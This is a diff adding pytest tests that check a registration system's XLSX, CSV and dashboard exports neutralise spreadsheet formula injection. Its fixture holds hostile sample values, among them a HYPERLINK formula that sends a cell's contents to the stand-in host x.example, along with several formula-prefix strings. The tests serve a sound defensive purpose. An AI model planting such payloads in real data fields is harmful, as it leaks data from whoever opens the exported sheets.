@@ -114,3 +114,50 @@ def test_others_cannot_download_it(clerk_client, auditor_client, family_client, 
     assert auditor_client.get(url).status_code == 403
     assert family_client.get(url)["Location"].startswith("/admin/login/")
     assert not AuditLog.objects.exists()
+
+
+@pytest.fixture
+def formula_family(quick_project, clerk):
+    """A walk-in whose name and project name an attacker chose to look like formulas."""
+    from registrations.services import registration_create
+    from tests.conftest import make_filing_row
+
+    quick_project.name = "＝HYPERLINK(\"http://x.example/?\"&D2)"
+    quick_project.save()
+    names = ["=HYPERLINK(\"http://x.example/?\"&D2,\"点击\")", "+1+1", "-2+3", "@SUM(A1)", "＠SUM(A1)",
+             "\tcmd", "\r=1", "＋1", "－1"]
+    for i, name in enumerate(names):
+        filing = make_filing_row(f"GLH2028{i:06d}", id_number=id_number(500 + i), applicant_name=name)
+        registration_create(filing=filing, actor=clerk, project=quick_project, unit_type="一居室", acknowledged=True)
+    return names
+
+
+def test_no_exported_xlsx_cell_is_a_formula(tmp_path, formula_family):
+    path = tmp_path / "out.xlsx"
+    export("KS2026-01", "--output", str(path))
+    sheet = load_workbook(path).active
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert cells and all(c.data_type == "s" for c in cells if c.value is not None)
+    names = sorted(row[2].value for row in sheet.iter_rows(min_row=2))
+    # XML reads a stored CR back as LF; what matters is the apostrophe in front of it.
+    assert names == sorted("'" + n.replace("\r", "\n") for n in formula_family)
+    assert {row[4].value for row in sheet.iter_rows(min_row=2)} == {"'＝HYPERLINK(\"http://x.example/?\"&D2)"}
+
+
+def test_no_exported_csv_cell_starts_like_a_formula(tmp_path, formula_family):
+    path = tmp_path / "out.csv"
+    export("KS2026-01", "--format", "csv", "--output", str(path))
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f))[1:]
+    starts = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+    assert rows and not [cell for row in rows for cell in row if cell.startswith(starts)]
+    assert sorted(r[2] for r in rows) == sorted("'" + n for n in formula_family)
+
+
+def test_the_dashboards_download_is_neutralised_too(manager_client, formula_family, tmp_path, quick_project):
+    response = manager_client.get(f"/admin/registrations/registration/dashboard/{quick_project.plan_id}/export.xlsx")
+    path = tmp_path / "download.xlsx"
+    path.write_bytes(response.content)
+    sheet = load_workbook(path).active
+    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None)
+    assert not [c.value for row in sheet.iter_rows(min_row=2) for c in row if str(c.value).startswith("=")]
